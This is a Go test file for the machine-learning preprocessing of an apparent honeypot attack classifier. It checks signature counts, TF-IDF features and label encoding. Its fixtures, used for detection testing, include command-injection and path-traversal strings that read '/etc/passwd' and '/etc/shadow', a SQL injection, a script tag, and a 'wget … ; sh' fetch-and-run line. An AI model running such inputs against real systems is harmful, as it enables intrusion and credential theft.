package ml

import (
	"encoding/json"
	"errors"
	"math"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/cvalentine99/honeyclass/internal/models"
)

func TestPatternFeatures_RCEAndTraversalTogether(t *testing.T) {
	f := PatternFeatures(models.AttackRecord{
		Command: "; cat /etc/passwd",
		Path:    "../../etc/shadow",
	})

	assert.Greater(t, f[4], 0.0, "rce_count")
	assert.Equal(t, 1.0, f[5], "rce_flag")
	assert.Greater(t, f[6], 0.0, "traversal_count")
	assert.Equal(t, 1.0, f[7], "traversal_flag")
}

func TestPatternFeatures_Monotonic(t *testing.T) {
	families := []struct {
		name    string
		snippet string
		count   int
	}{
		{"sql", "union select ", 0},
		{"xss", "<script>", 2},
		{"rce", "; cat x ", 4},
		{"traversal", "../", 6},
	}

	for _, fam := range families {
		t.Run(fam.name, func(t *testing.T) {
			cmd := ""
			prev := -1.0
			for i := 0; i < 5; i++ {
				f := PatternFeatures(models.AttackRecord{Command: cmd})
				assert.GreaterOrEqual(t, f[fam.count], prev)
				if f[fam.count] > 0 {
					assert.Equal(t, 1.0, f[fam.count+1])
				} else {
					assert.Equal(t, 0.0, f[fam.count+1])
				}
				prev = f[fam.count]
				cmd += fam.snippet
			}
			assert.Greater(t, prev, 0.0)
		})
	}
}

func TestPatternFeatures_TextStatistics(t *testing.T) {
	f := PatternFeatures(models.AttackRecord{
		Command:   "ÉCHO 'a'",
		Path:      "/a/b.c",
		UserAgent: "<x>",
	})

	// joined text is "écho 'a' /a/b.c <x>"
	assert.Equal(t, float64(len([]rune("écho 'a' /a/b.c <x>"))), f[8])
	assert.Equal(t, 2.0, f[9])
	assert.Equal(t, 1.0, f[10])
	assert.Equal(t, 4.0, f[11])
}

func TestSignatureFamilies_Verbatim(t *testing.T) {
	assert.Len(t, SQLInjectionSignatures.Patterns(), 9)
	assert.Len(t, XSSSignatures.Patterns(), 6)
	assert.Len(t, RCESignatures.Patterns(), 9)
	assert.Len(t, TraversalSignatures.Patterns(), 4)
	assert.Equal(t, `union\s+select`, SQLInjectionSignatures.Patterns()[0])
	assert.Equal(t, 1, SQLInjectionSignatures.Count("SELECT 1 UNION   SELECT 2"))
}

func TestTFIDFVectorizer_WordAnalyzer(t *testing.T) {
	v := NewTFIDFVectorizer(AnalyzerWord, 1, 2, 0)
	assert.Equal(t, []string{"cat", "etc", "passwd", "cat etc", "etc passwd"}, v.Analyze("cat /ETC/passwd"))

	v.Fit([]string{"cat /etc/passwd", "ls -la", "cat /etc/shadow"})
	require.NotEmpty(t, v.Terms)
	for i := 1; i < len(v.Terms); i++ {
		assert.Less(t, v.Terms[i-1], v.Terms[i], "terms must be sorted")
	}

	row := v.TransformOne("cat /etc/passwd")
	var norm float64
	for _, x := range row {
		norm += x * x
	}
	assert.InDelta(t, 1.0, math.Sqrt(norm), 1e-9)

	assert.Equal(t, make([]float64, v.Width()), v.TransformOne("zzz qqq"))
}

func TestTFIDFVectorizer_MaxFeaturesKeepsMostFrequent(t *testing.T) {
	v := NewTFIDFVectorizer(AnalyzerWord, 1, 1, 2)
	v.Fit([]string{"aa bb cc", "bb cc", "cc"})
	assert.Equal(t, []string{"bb", "cc"}, v.Terms)

	// smooth idf: ln((1+n)/(1+df)) + 1
	assert.InDelta(t, math.Log(4.0/3.0)+1, v.IDF[0], 1e-12)
	assert.InDelta(t, 1.0, v.IDF[1], 1e-12)
}

func TestTFIDFVectorizer_CharWB(t *testing.T) {
	v := NewTFIDFVectorizer(AnalyzerCharWB, 1, 2, 0)
	assert.Equal(t, []string{" ", "a", "b", " ", " a", "ab", "b "}, v.Analyze("ab"))
	// " a " is too short for a 3-gram but still yields its 2-grams
	assert.Equal(t, []string{" ", "a", " ", " a", "a "}, v.Analyze("A"))
}

func attackRecords() []models.AttackRecord {
	base := time.Date(2024, 3, 4, 10, 0, 0, 0, time.UTC)
	return []models.AttackRecord{
		{Timestamp: base, SourceIP: "1.2.3.4", SourcePort: 4000, DestinationPort: 22, ServiceType: "ssh", Command: "cat /etc/passwd", Severity: 5, AttackType: "reconnaissance"},
		{Timestamp: base.Add(time.Hour), SourceIP: "1.2.3.5", SourcePort: 4001, DestinationPort: 80, ServiceType: "http", Path: "/search?q=' or 1=1--", Severity: 7, AttackType: "sql_injection"},
		{Timestamp: base.Add(2 * time.Hour), SourceIP: "1.2.3.6", SourcePort: 4002, DestinationPort: 80, ServiceType: "http", Path: "/files?path=../../etc/passwd", Body: "x", AttackType: "path_traversal"},
		{Timestamp: base.Add(3 * time.Hour), SourceIP: "1.2.3.7", SourcePort: 4003, DestinationPort: 22, ServiceType: "ssh", Command: "wget http://x/y; sh y", Severity: 9},
	}
}

func TestPreprocessor_UnfittedIsPatternOnly(t *testing.T) {
	p := NewPreprocessor(nil)
	assert.False(t, p.IsFitted())
	assert.Empty(t, p.Classes())

	X, err := p.Transform(attackRecords())
	require.NoError(t, err)
	for _, row := range X {
		assert.Len(t, row, PatternFeatureCount)
	}

	_, err = p.EncodeLabels([]string{"xss"})
	assert.ErrorIs(t, err, ErrNotTrained)
}

func TestPreprocessor_IdenticalWidths(t *testing.T) {
	recs := attackRecords()
	p := NewPreprocessor(nil)
	X, err := p.FitTransform(recs)
	require.NoError(t, err)

	width := p.Schema().Width()
	assert.Equal(t, width, len(p.FeatureNames()))
	assert.Equal(t, len(NumericFeatureNames)+p.Schema().Command+p.Schema().Path+PatternFeatureCount, width)
	for _, row := range X {
		assert.Len(t, row, width)
	}

	sparse, err := p.Transform([]models.AttackRecord{{}, {Command: "brand new words"}, {QueryString: "a=b", UserAgent: "curl"}})
	require.NoError(t, err)
	for _, row := range sparse {
		assert.Len(t, row, width)
	}
}

func TestPreprocessor_Labels(t *testing.T) {
	p := NewPreprocessor(nil)
	require.NoError(t, p.Fit(attackRecords()))

	// the unlabelled record becomes "unknown"
	assert.Equal(t, []string{"path_traversal", "reconnaissance", "sql_injection", "unknown"}, p.Classes())

	codes, err := p.EncodeLabels([]string{"sql_injection", "", "reconnaissance"})
	require.NoError(t, err)
	assert.Equal(t, []int{2, 3, 1}, codes)

	names, err := p.DecodeLabels(codes)
	require.NoError(t, err)
	assert.Equal(t, []string{"sql_injection", "unknown", "reconnaissance"}, names)

	_, err = p.EncodeLabels([]string{"rce"})
	assert.True(t, errors.Is(err, ErrUnsupportedLabel))
}

func TestPreprocessor_NumericBlockIsStandardised(t *testing.T) {
	recs := attackRecords()
	p := NewPreprocessor(nil)
	X, err := p.FitTransform(recs)
	require.NoError(t, err)

	for col := range NumericFeatureNames {
		var sum float64
		for _, row := range X {
			sum += row[col]
		}
		assert.InDelta(t, 0, sum/float64(len(X)), 1e-9, NumericFeatureNames[col])
	}
}

func TestPreprocessor_JSONRoundTrip(t *testing.T) {
	recs := attackRecords()
	p := NewPreprocessor(nil)
	want, err := p.FitTransform(recs)
	require.NoError(t, err)

	data, err := json.Marshal(p)
	require.NoError(t, err)

	var restored Preprocessor
	require.NoError(t, json.Unmarshal(data, &restored))
	got, err := restored.Transform(recs)
	require.NoError(t, err)

	assert.Equal(t, want, got)
	assert.Equal(t, p.Classes(), restored.Classes())
	assert.Equal(t, p.FeatureNames(), restored.FeatureNames())
}

func TestNumericFeatures_CalendarFields(t *testing.T) {
	// 2024-03-04 is a Monday
	ts := time.Date(2024, 3, 4, 23, 30, 0, 0, time.FixedZone("x", 2*3600))
	f := numericFeatures(models.AttackRecord{Timestamp: ts, Body: "abcd"})

	assert.Equal(t, 21.0, f[3], "hour is taken in UTC")
	assert.Equal(t, 0.0, f[4], "monday is day zero")
	assert.Equal(t, 4.0, f[5], "body size falls back to body length")
}
